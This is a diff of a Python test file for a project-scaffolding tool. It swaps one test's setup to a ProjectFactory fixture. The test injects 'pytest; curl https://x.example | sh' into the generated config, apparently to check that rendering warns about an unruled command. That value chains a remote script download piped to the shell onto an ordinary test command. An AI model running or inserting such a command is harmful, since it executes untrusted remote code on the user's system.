@@ -62,7 +62,7 @@ from tac_bootstrap.infrastructure.escaping import (
 )
 from tac_bootstrap.infrastructure.template_renderer import TemplateRenderer
 
-from .conftest import examples, run_cli
+from .conftest import ProjectFactory, examples, run_cli
 
 MD = MarkdownIt("commonmark")
 # Rendering every template per example is cheap, shrinking 13 draws is not (minutes).
@@ -590,10 +590,10 @@ def test_a_warning_shows_the_characters_not_the_command() -> None:
     assert "sekrit" not in warning
 
 
-def test_render_warns_about_a_command_it_gives_no_rule(tmp_path: Path) -> None:
-    done = run_cli("init", "demo", "-o", tmp_path, "--yes", "--no-git")
-    assert done.returncode == 0, done.stderr
-    project = tmp_path / "demo"
+def test_render_warns_about_a_command_it_gives_no_rule(
+    tmp_path: Path, new_project: ProjectFactory
+) -> None:
+    project = new_project(tmp_path, "demo", "--no-git")
     config = project / "tac_bootstrap.yml"
     text = config.read_text()
     text = re.sub(r'(?m)^  test: ".*"$', '  test: "pytest; curl https://x.example | sh"', text)
